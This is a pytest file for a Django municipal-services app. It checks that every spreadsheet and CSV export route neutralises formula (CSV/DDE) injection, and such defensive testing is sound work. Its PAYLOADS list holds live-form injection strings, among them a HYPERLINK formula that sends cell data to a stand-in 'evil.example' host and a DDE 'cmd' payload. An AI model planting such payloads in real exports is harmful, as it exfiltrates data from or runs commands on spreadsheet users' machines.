"""Formula (CSV/DDE) injection in EVERY export, generated from the URL map.

Every route that hands out a workbook or a CSV file is found by walking the URL resolver (a path
or name saying export, .xlsx, .csv, template or error report). Each must be listed below: with a
*producer* that stores the hostile payloads in the free-text fields the export writes and returns
the file the route hands out, or as writing no user-typed text (with the reason). A new export
route without an entry fails ``test_every_export_route_is_covered``.

The payloads are the classic ones — ``=HYPERLINK(…)``, ``+cmd|…``, ``-1+1``, ``@SUM(…)`` and the
same behind a tab or a carriage return — each carrying a marker so its cell can be found. In a
workbook every cell holding a marker must be a text cell (never a formula) and, when its text
starts like a formula, carry Excel's quote prefix; in a CSV such a field must start with ``'``.
"""

from __future__ import annotations

import csv
import datetime
import io
import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"GZX0点我")', "+GZX1|' /C calc'!A0", "-1+1+GZX2",
            "@SUM(1+1)*GZX3", "\t=GZX4+1", "\r=GZX5+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
MARKER = re.compile(r"GZX\d")
EXPORT_ROUTE = re.compile(r"export|\.xlsx|\.csv|template|error.report", re.IGNORECASE)


def _walk(patterns, prefix="", namespace=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern), inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield prefix + str(pattern.pattern), namespace + pattern.name


def export_routes() -> dict[str, str]:
    """URL name → path of every route whose path or name says it hands out an exported file."""
    return {name: path for path, name in _walk(get_resolver().url_patterns)
            if EXPORT_ROUTE.search(path) or EXPORT_ROUTE.search(name.split(":")[-1])}


# --- producers: store the payloads, return (format, file bytes) as the route hands it out ------------

def _job_bytes(job) -> bytes:
    from gongzhi.jobs.services import output_stream

    job.refresh_from_db()
    assert job.status == "succeeded", (job.status, job.message)
    with output_stream(job) as fh:
        return fh.read()


def _audit(world):
    from gongzhi.audit.services import record

    for payload in PAYLOADS:
        record(actor=None, actor_name=payload, action="fuzz.formula", object_repr=payload, reason=payload)
    world.client.force_login(world.demo.users["auditor"])
    response = world.client.get("/audit/export.xlsx?action=fuzz.formula")
    return "xlsx", b"".join(response.streaming_content)


def _areas_csv(world):
    from gongzhi.areas.models import Area

    for payload, area in zip(PAYLOADS, Area.objects.filter(level="community").order_by("code")):
        Area.objects.filter(pk=area.pk).update(name=payload)
    world.client.force_login(world.demo.users["district"])
    response = world.client.get("/areas/export.csv")
    return "csv", b"".join(response.streaming_content) if response.streaming else response.content


def _import_error_report(world):
    from gongzhi.registry.importing.report import write_error_report
    from gongzhi.registry.importing.validate import RowError

    text = io.StringIO()
    csv.writer(text).writerows([["姓名", "身份证号", "现住址"], *([payload, payload, payload] for payload in PAYLOADS)])
    out = io.BytesIO()
    write_error_report(data=text.getvalue().encode("utf-8"), filename="a.csv", header_row=1, out=out,
                       errors=[RowError(row, "身份证号", "不对。") for row in range(2, 2 + len(PAYLOADS))])
    return "xlsx", out.getvalue()


def _person_export(world):
    from gongzhi.registry import exporting
    from gongzhi.registry.tests.factories import GRID, make_id, make_person

    for n, payload in enumerate(PAYLOADS):
        make_person(grid=GRID, name=payload, address_text=payload, id_number=make_id(sequence=f"{600 + n:03d}"))
    with world.capture(execute=True):
        job = exporting.start_person_export(actor=world.demo.users["grid"], filters={})
    return "xlsx", _job_bytes(job)


def _case_export(world):
    from gongzhi.areas.models import Area
    from gongzhi.cases import exporting, services
    from gongzhi.registry.tests.factories import GRID

    lon, lat = Area.objects.get(code=GRID).centroid
    for payload in PAYLOADS:
        services.report_case(actor=world.demo.users["resident"], description=f"{payload} 井盖丢失", lon=lon, lat=lat,
                             address=payload)
    with world.capture(execute=True):
        job = exporting.start_case_export(actor=world.demo.users["community"], filters={})
    return "xlsx", _job_bytes(job)


def _bulletin(world):
    from django.utils import timezone

    from gongzhi.areas.models import Area
    from gongzhi.cases import services
    from gongzhi.cases.models import Category
    from gongzhi.registry.tests.factories import GRID

    lon, lat = Area.objects.get(code=GRID).centroid
    for payload, category in zip(PAYLOADS, Category.objects.filter(parent__isnull=False).order_by("code")):
        Category.objects.filter(pk=category.parent_id).update(name=payload)
        services.report_case(actor=world.demo.users["resident"], description="路灯不亮，晚上很黑", lon=lon, lat=lat,
                             category=category)
    world.client.force_login(world.demo.users["district"])
    response = world.client.get(f"/cases/bulletin.xlsx?week={timezone.localdate():%Y-%m-%d}")
    assert response.status_code == 200
    return "xlsx", b"".join(response.streaming_content)


def _finance_export(world):
    from gongzhi.areas.models import Area
    from gongzhi.disclosure import services_finances

    community = Area.objects.filter(level="community").order_by("code").first()
    today = datetime.date.today()
    from gongzhi.disclosure.models.finances import FinanceCategory

    for payload in PAYLOADS:
        services_finances.add_entry(actor=None, area=community, date=today, voucher=payload[:30], kind="income",
                                    category=FinanceCategory.values[0], amount="12.50", summary=payload,
                                    handled_by=payload[:30])
    world.client.force_login(world.demo.users["community"])
    response = world.client.get(f"/disclosure/manage/finances/export/?area={community.code}&month={today:%Y-%m}")
    assert response.status_code == 200, response.status_code
    return "xlsx", response.content


PRODUCERS = {
    "audit:export": _audit,
    "areas:export_csv": _areas_csv,
    "registry:import_error_report": _import_error_report,
    "registry:export": _person_export,
    "cases:export": _case_export,
    "cases:bulletin_xlsx": _bulletin,
    "disclosure:finance_export": _finance_export,
}
# Routes that write no text a user typed (or no spreadsheet), with the reason.
NO_USER_TEXT = {
    "registry:import_template": "the blank template: fixed headers and the choice lists",
    "areas:export_geojson": "GeoJSON for GIS tools, not a spreadsheet (the CSV export carries the same names)",
}


def test_every_export_route_is_covered():
    routes = export_routes()
    assert {"audit:export", "cases:export", "registry:export", "disclosure:finance_export"} <= set(routes)
    uncovered = set(routes) - set(PRODUCERS) - set(NO_USER_TEXT)
    assert not uncovered, f"export routes without a formula-injection producer here: {sorted(uncovered)}"
    assert not (set(PRODUCERS) | set(NO_USER_TEXT)) - set(routes), "entries for routes that no longer exist"


@pytest.fixture
def world(demo, client, django_capture_on_commit_callbacks):
    from types import SimpleNamespace

    from gongzhi.cases.demo_links import link_departments

    link_departments()
    return SimpleNamespace(demo=demo, client=client, capture=django_capture_on_commit_callbacks)


def _cells(fmt: str, content: bytes) -> list[tuple[str, object]]:
    """(text, the workbook cell or None) of every cell or CSV field holding a marker."""
    if fmt == "csv":
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return [(field, None) for row in rows for field in row if MARKER.search(field)]
    book = load_workbook(io.BytesIO(content))
    return [(str(cell.value), cell) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None and MARKER.search(str(cell.value))]


@pytest.mark.parametrize("route", sorted(PRODUCERS))
def test_every_payload_is_neutralised_in_the_export(world, route):
    fmt, content = PRODUCERS[route](world)
    cells = _cells(fmt, content)
    assert cells, f"{route}: no payload reached the export"
    for text, cell in cells:
        if fmt == "csv":
            assert not text.startswith(FORMULA_START), (route, text)
            continue
        assert cell.data_type == "s", (route, text, cell.data_type)
        if text.startswith(FORMULA_START):
            assert cell.quotePrefix, (route, text)
    if fmt == "xlsx":
        import zipfile

        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert not any("<f>" in archive.read(name).decode("utf-8", "replace") or
                           "<f " in archive.read(name).decode("utf-8", "replace")
                           for name in archive.namelist() if name.startswith("xl/worksheets/")), route
